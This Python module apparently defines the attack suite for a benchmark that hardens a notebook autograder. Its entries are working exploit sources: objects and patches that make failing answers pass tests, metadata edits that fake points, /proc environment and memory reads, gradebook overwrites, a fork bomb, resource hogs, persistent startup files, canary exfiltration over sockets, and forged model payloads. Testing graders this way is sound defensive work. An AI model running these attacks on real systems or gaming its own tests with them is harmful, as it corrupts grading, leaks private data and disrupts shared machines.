"""The attacks that `benchmarks.attacks` measures: what a clever student may hand in for one small assignment.

Each starts from a wrong answer that earns nothing, so every point it gets is gained. In the sources, `{course}` is the
course directory, `{outside}` a folder that anybody may write to, `{port}` a port on which somebody listens, `{mark}` a
number that names this attack's processes and files.
"""

# ruff: noqa: E501  - sources of attacks stand as they are handed in

from __future__ import annotations

import json

from benchmarks.attack_model import Attack
from benchmarks.attacks_on_machine import MACHINE_ATTACKS
from benchmarks.attacks_on_people import PEOPLE_ATTACKS
from benchmarks.attacks_on_tests import TEST_ATTACKS
from benchmarks.attacks_on_values import APART_ONLY, EXCHANGE, VALUE_ATTACKS


def _cell(notebook: dict, grade_id: str) -> dict:
    return next(c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id)


def _tests(notebook: dict) -> list[dict]:
    return [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]


def _more_points(notebook: dict) -> None:
    for cell in _tests(notebook):
        cell["metadata"]["nbgrader"]["points"] = 200
        cell["source"] = "1.0"


def _flags(notebook: dict) -> None:
    for cell in _tests(notebook):
        cell["metadata"]["nbgrader"].update(grade=True, solution=True, locked=False)
        cell["source"] = "pass"


def _names(notebook: dict) -> None:
    first, second = _tests(notebook)[:2]
    first["metadata"]["nbgrader"]["grade_id"], second["metadata"]["nbgrader"]["grade_id"] = "test-number", "x"
    first["source"] = second["source"] = "pass"


def _duplicated(notebook: dict) -> None:
    copy = json.loads(json.dumps(_cell(notebook, "test-squares")))
    copy["id"], copy["source"] = "another", "pass"
    notebook["cells"].append(copy)


def _invented(notebook: dict) -> None:
    copy = json.loads(json.dumps(_cell(notebook, "test-squares")))
    copy["id"], copy["source"] = "bonus", "pass"
    copy["metadata"]["nbgrader"].update(grade_id="bonus", points=50)
    notebook["cells"].append(copy)


def _deleted(notebook: dict) -> None:
    for cell in _tests(notebook):
        notebook["cells"].remove(cell)


def _tags(notebook: dict) -> None:
    for cell in _tests(notebook):
        cell["metadata"]["tags"] = ["skip-grading", "skip-execution", "raises-exception"]


def _raises_allowed(notebook: dict) -> None:
    notebook["metadata"]["nbclient"] = {"allow_errors": True}
    for cell in _tests(notebook):
        cell["cell_type"] = "raw"
        cell.pop("outputs"), cell.pop("execution_count")


def _kernel(notebook: dict) -> None:
    notebook["metadata"]["kernelspec"] = {"name": "bash", "display_name": "b", "language": "bash"}


def _payload(notebook: dict) -> None:
    report = {"version": 1, "exercise": "x", "points": 2, "score": 2, "checks": [{"name": "a", "points": 2, "passed": True}]}  # fmt: skip
    for cell in _tests(notebook):
        cell["outputs"] = [
            {"output_type": "display_data", "data": {"application/vnd.course-checks+json": report}, "metadata": {}},
            {"output_type": "execute_result", "data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1},
        ]


EVIL = """class Evil(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __eq__
    def __hash__(self): return 1
    def __sub__(self, other): return 0.0
    __rsub__ = __abs__ = __sub__
    def __array__(self, *a, **k): return np.full(2, [1.0, 4.0])
"""
READ = """import glob, os
def look(path):
    try: print(path, open(path, 'rb').read()[:3_000_000].decode('utf-8', 'replace'))
    except Exception as error: print(path, error)
for root in ('{course}', '../../..', '../..'):
    for path in glob.glob(root + '/' + WHERE, recursive=True): look(path)
"""
PARENT = """import os
def look(path, start=None):
    try:
        with open(path, 'rb', buffering=0) as file:
            if start is not None: file.seek(start)
            return file.read(1 << 26)
    except Exception as error: return repr(error).encode()
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    found = look(f'/proc/{pid}/environ')
    if b'canary-' in found: print(pid, found[found.index(b'canary-'):][:40])
"""
MEMORY = (
    PARENT
    + """
for pid in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:
    if b'nbgrader' not in look(f'/proc/{pid}/cmdline') and b'attacks' not in look(f'/proc/{pid}/cmdline'): continue
    for line in look(f'/proc/{pid}/maps').decode('utf-8', 'replace').splitlines():
        first, _, rest = line.partition(' ')
        if not rest.startswith('rw') or '-' not in first: continue
        start, end = (int(x, 16) for x in first.split('-'))
        if end - start > 1 << 26: continue
        found = look(f'/proc/{pid}/mem', start)
        at = found.find(b'canary-hidden-')
        if at >= 0: print('memory', found[at:at + 18]); break
"""
)
WRITE_GRADES = """import sqlite3
for path in ('{course}/gradebook.db', '../../../gradebook.db'):
    try:
        with sqlite3.connect(path, timeout=1) as book:
            book.execute('update grade set manual_score = 2, needs_manual_grade = 0')
    except Exception as error: print(error)
"""
LATER = """import subprocess, sys
subprocess.Popen([sys.executable, '-c', '''import sqlite3, time
mark = {mark}
for _ in range(40):
    time.sleep(0.25)
    try:
        with sqlite3.connect("{course}/gradebook.db", timeout=1) as book:
            book.execute("update grade set manual_score = 2, needs_manual_grade = 0")
    except Exception: pass'''], start_new_session=True, stdout=-3, stderr=-3)
"""
TRY = "def attempt(act):\n    try: act()\n    except BaseException as error: print(error)\n"
NETWORK = (
    TRY
    + """import socket
text = b'canary-sent-{mark}'
attempt(lambda: socket.create_connection(('127.0.0.1', {port}), 1).sendall(text))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(text, ('127.0.0.1', {port})))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
    b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0' + bytes([len(text)]) + text + b'\\0\\0\\1\\0\\1', ('127.0.0.1', {port})))
"""
)
LAMBDA = (
    EXCHANGE
    + """
import io, json, zipfile, h5py
from grader.sandbox.codec.nodes import objects
weights = io.BytesIO(); h5py.File(weights, 'w').close()
layer = {"module": MODULE, "class_name": "Lambda", "registered_name": None, "config": {"name": "l", "function":
    {"class_name": "__lambda__", "config": {"code": "4wAAAAAAAAAA", "defaults": None, "closure": None}}}}
config = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [layer]}}
archive = io.BytesIO()
with zipfile.ZipFile(archive, 'w') as file:
    file.writestr('config.json', json.dumps(config)); file.writestr('metadata.json', '{}')
    file.writestr('model.weights.h5', weights.getvalue())
class Model: pass
real = objects.write_special
def special(self, value, depth):
    if isinstance(value, Model): return {"t": "model", "b": self.blob(archive.getvalue())}
    return real(self, value, depth)
objects.write_special = special
def squares(x): return Model()
"""
)
STATE = """import numpy as np
def jitter(x, rng):
    bits = rng.bit_generator
    state = bits.state
    state['state'] = {'state': 0, 'inc': 0}
    bits.state = state
    return x
"""

ATTACKS = [
    Attack("an object whose == always agrees", answer=EVIL + "def squares(x): return Evil(0.5)"),
    Attack("an object that agrees, and patched comparisons", "np.allclose = lambda *a, **k: True\n"
           "np.testing.assert_allclose = lambda *a, **k: None\nnp.array_equal = lambda *a: True\n",
           answer=EVIL + "def squares(x): return Evil(0.5)"),
    Attack("numpy.testing and np.allclose patched", "np.allclose = np.array_equal = lambda *a, **k: True\n"
           "np.testing.assert_allclose = lambda *a, **k: None\n"),
    Attack("abs, isinstance and AssertionError patched", "import builtins\nbuiltins.abs = lambda x: 0.0\n"
           "builtins.isinstance = lambda *a: True\nbuiltins.AssertionError = type('Quiet', (Warning,), {})\n"),
    Attack("a transformer that drops every assert", "import ast\nclass Drop(ast.NodeTransformer):\n"
           "    def visit_Assert(self, node): return ast.Pass()\n    def visit_Expr(self, node): return ast.Pass()\n"
           "get_ipython().ast_transformers.append(Drop())\n"),
    Attack("every later cell becomes `pass`",
           "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n"),
    Attack("InteractiveShell.run_cell patched", "from IPython.core.interactiveshell import InteractiveShell as S\n"
           "real, real_async = S.run_cell, S.run_cell_async\n"
           "S.run_cell = lambda self, code, *a, **k: real(self, 'pass')\n"
           "async def quiet(self, code, *a, **k): return await real_async(self, 'pass', transformed_cell='pass')\n"
           "S.run_cell_async = quiet\n"),
    Attack("a display hook that prints points", "import sys\nget_ipython().display_formatter.format = "
           "lambda *a, **k: ({'text/plain': '2.0'}, {})\nget_ipython().showtraceback = lambda *a, **k: None\n"),
    Attack("a published report of passed checks", "from IPython.display import publish_display_data as show\n"
           "report = {'version': 1, 'exercise': 'x', 'points': 2, 'score': 2, 'checks': [{'name': 'a', 'points': 2, "
           "'passed': True}]}\n", answer="def squares(x):\n    for key in ('application/vnd.course-checks+json', "
           "'Application/vnd.course-checks+json ', 'application/vnd.course-checks+json\\ud800'):\n"
           "        show({key: report, 'text/plain': '2.0'}, {})\n    return 0 * x"),
    Attack("SystemExit in the answer", answer="def squares(x): raise SystemExit"),
    Attack("os._exit(0) in the answer", answer="import os\ndef squares(x): os._exit(0)"),
    Attack("StopIteration, KeyboardInterrupt and an unknown error", answer="import itertools\n"
           "kinds = itertools.cycle([StopIteration, KeyboardInterrupt, type('Own', (BaseException,), {})])\n"
           "def squares(x): raise next(kinds)"),
    Attack("reads the hidden tests in source/", READ.replace("WHERE", "source/**/*.ipynb")),
    Attack("reads gradebook.db", READ.replace("WHERE", "gradebook.db")),
    Attack("reads another student's submission", READ.replace("WHERE", "submitted/**/*.ipynb")),
    Attack("reads the grader's environment in /proc", PARENT),
    Attack("reads the grader's memory in /proc", MEMORY, alone=True),
    Attack("writes the gradebook", WRITE_GRADES, alone=True),
    Attack("a process that writes the gradebook afterwards", LATER, alone=True),
    Attack("finds the expected value in stack frames", answer="import gc, sys\ndef squares(x):\n"
           "    frame = sys._getframe()\n    while frame:\n        for place in (frame.f_locals, frame.f_globals):\n"
           "            if 'expected' in place: return place['expected']\n        frame = frame.f_back\n"
           "    main = sys.modules['__main__'].__dict__\n    return main.get('expected', 0 * x)",
           after="print([o[:200] for o in gc.get_objects() if isinstance(o, str) and 'canary-' in o][:5])"),
    Attack("prints the tests it has run beside", after="print(globals().get('In'))\nprint(globals().get('secret'))\n"
           "import gc\nprint([str(o)[:9000] for o in gc.get_objects() if isinstance(o, (dict, list)) "
           "and 'secret' in o][:5])"),
    Attack("points raised, sources emptied", edit=_more_points, alone=True),
    Attack("grade and solution flags changed", edit=_flags, alone=True),
    Attack("grade_ids exchanged", edit=_names, alone=True),
    Attack("a test cell duplicated", edit=_duplicated, alone=True),
    Attack("a test cell invented", edit=_invented, alone=True),
    Attack("all test cells deleted", edit=_deleted, alone=True),
    Attack("tests tagged as to be skipped", edit=_tags, alone=True),
    Attack("tests made raw, errors allowed", edit=_raises_allowed, alone=True),
    Attack("outputs that report passed checks", edit=_payload),
    Attack("another kernel asked for", edit=_kernel, alone=True),
    Attack("an endless loop that catches interrupts", answer="def squares(x):\n    while True:\n        try:\n"
           "            while True: pass\n        except BaseException: pass", alone=True),
    Attack("an output flood", answer="def squares(x):\n    for _ in range(30_000): print('x' * 1000)\n    return 0 * x",
           alone=True),
    Attack("a fork bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n",
           not_stock="nothing would stop it"),
    Attack("a memory hog", "hog = []\nfor _ in range(40): hog.append(bytearray(b'x') * 50_000_000)\n"
           "print('took', len(hog) * 50, 'MB')\n", alone=True),
    Attack("a disk hog", "with open('{outside}/hog-{mark}' if __import__('os').path.isdir('{outside}') else 'hog', 'wb')"
           " as file:\n    for _ in range(100): file.write(b'x' * 1_000_000)\n"),
    Attack("a child and a thread left behind", "import subprocess, threading, time\n"
           "subprocess.Popen(['sleep', '{mark}'], start_new_session=True)\n"
           "threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n"),
    Attack("files left for the next student", TRY + "import os, pathlib\n"
           "start = pathlib.Path.home() / '.ipython/profile_default/startup'\n"
           "attempt(lambda: start.mkdir(parents=True, exist_ok=True))\n"
           "attempt(lambda: (start / 'evil-{mark}.py').write_text('squares = None'))\n"
           "attempt(lambda: open('{outside}/left-{mark}', 'w').close())\n"
           "attempt(lambda: open('/tmp/left-{mark}', 'w').close())\n"),
    Attack("network: TCP, UDP, DNS", NETWORK),
    Attack("__array__, __float__ and __len__ that lie", answer="class Liar:\n    shape, dtype, size = (5,), float, 5\n"
           "    def __array__(self, *a, **k): return np.array([1.0, 4.0])\n    def __float__(self): return 25.0\n"
           "    def __len__(self): return 2\n    def __abs__(self): return 0.0\n    __sub__ = __rsub__ = "
           "lambda self, other: 0.0\n    def __eq__(self, other): return True\n"
           "    def __getattr__(self, name): return lambda *a, **k: True\n    __class__ = float\n"
           "def squares(x): return Liar()"),
    Attack("__array__ that never returns", answer="class Slow:\n    def __array__(self, *a, **k):\n        while True: pass\n"
           "def squares(x): return Slow() if np.ndim(x) else 0", alone=True),
    Attack("an object with its own .equals, .all and .sum", answer="class Own:\n    def __getattr__(self, name):\n"
           "        return lambda *a, **k: True\ndef squares(x): return Own()"),
    Attack("the names np and abs taken over", answer="class Agreeable:\n    def __getattr__(self, name):\n"
           "        return lambda *a, **k: True\n    def __call__(self, *a): return 0.0\n"
           "def squares(x): return 0.0\nnp.testing, np.allclose = Agreeable(), Agreeable().x\nnp = Agreeable()\n"
           "abs = isinstance = float = Agreeable()", jitter="def jitter(x, rng): return x"),
    Attack("a doctored random generator: all later inputs are 0", jitter=STATE),
    Attack("a replayed random generator", jitter="import numpy as np\ndef jitter(x, rng):\n"
           "    fixed = np.random.default_rng(0)\n    rng.bit_generator.state = fixed.bit_generator.state\n    return x",
           answer="seen = np.random.default_rng(0).normal(size=4)\ndef squares(x):\n"
           "    return seen * seen if np.shape(x) == (4,) else 0 * x"),
    Attack("a forged .keras file with a Lambda layer", answer=LAMBDA.replace("MODULE", '"keras.layers"'),
           not_stock=APART_ONLY),
    Attack("messages that are no values", answer=EXCHANGE + "from grader.sandbox.codec import writing\nimport itertools, struct\n"
           "bodies = itertools.cycle([b'', b'\\0\\0\\0\\1{', b'\\0\\0\\0\\x0f[{\"t\":\"tuple\"}]', b'\\xff' * 64,\n"
           "    struct.pack('!I', 40) + b'[{\"t\":\"array\",\"b\":0},[900000000000]]    '])\n"
           "writing.Writer.message = lambda self, *groups: next(bodies)\ndef squares(x): return 0", not_stock=APART_ONLY),
    Attack("answers before they are asked", answer=EXCHANGE + "from grader.sandbox.codec import Writer\n"
           "body = Writer().message({'result': True, 'first': 1 << 45, 'changed': [], 'drop': []}, [24.0], [], [None], [], [])\ndef squares(x):\n    for _ in range(50):\n"
           "        exchange.channel.send({'op': 'answer', 'ok': True}, body)\n"
           "        exchange.channel.send({'op': 'done', 'error': '', 'count': 1})\n    return 0", not_stock=APART_ONLY),
    Attack("questions without end", answer=EXCHANGE + "def squares(x):\n    while True:\n"
           "        exchange.channel.send({'op': 'ask', 'what': 'call', 'id': 1}, b'')", not_stock=APART_ONLY),
    Attack("half a message, then memory", "import struct, time\n" + EXCHANGE
           + "exchange.channel._socket.sendall(struct.pack('!II', 100, 0) + b'{')\nhog = []\n"
           "for _ in range(300): hog.append(bytearray(b'x') * 10_000_000); time.sleep(0.01)\ntime.sleep(5)\n",
           not_stock=APART_ONLY),
    Attack("nested and huge return values", answer="import itertools\ndef deep():\n    x = []\n"
           "    for _ in range(100_000): x = [x]\n    return x\n"
           "kinds = itertools.cycle([deep, lambda: np.zeros(10**8), lambda: 1 << 10**6, lambda: list(range(2_000_000))])\n"
           "def squares(x): return next(kinds)()"),
    Attack("NaN, -0.0, infinities, empty arrays", answer="import itertools\nkinds = itertools.cycle(["
           "float('nan'), np.empty(0), -0.0, float('inf'), np.array([], dtype=object), np.ma.masked, np.float16('nan')])\n"
           "def squares(x): return next(kinds)"),
    Attack("a submission that is not JSON", raw=lambda: b"%PDF-1.4 not a notebook", alone=True),
    Attack("a submission of 200 MB", raw=lambda: b'{"cells": [' + b" " * 200_000_000 + b"]}", alone=True, quick=False),
    Attack("NaN and lone surrogates in the notebook", edit=lambda n: (
        n["metadata"].update(x=float("nan")),
        n["cells"].append({"cell_type": "markdown", "id": "s", "metadata": {}, "source": "\ud800"})), alone=True),
    Attack("a symbolic link to source/", link="{course}/source/attacked/attacked.ipynb", alone=True),
    Attack("a helper module that shadows numpy", after="", files={
        "numpy.py": b"def __getattr__(name):\n    return lambda *a, **k: True\nclass testing:\n"
                    b"    assert_allclose = staticmethod(lambda *a, **k: None)\n",
        "course_utils.py": b"raise SystemExit"}),
    *VALUE_ATTACKS,
    *TEST_ATTACKS,
    *MACHINE_ATTACKS,
    *PEOPLE_ATTACKS,
]  # fmt: skip
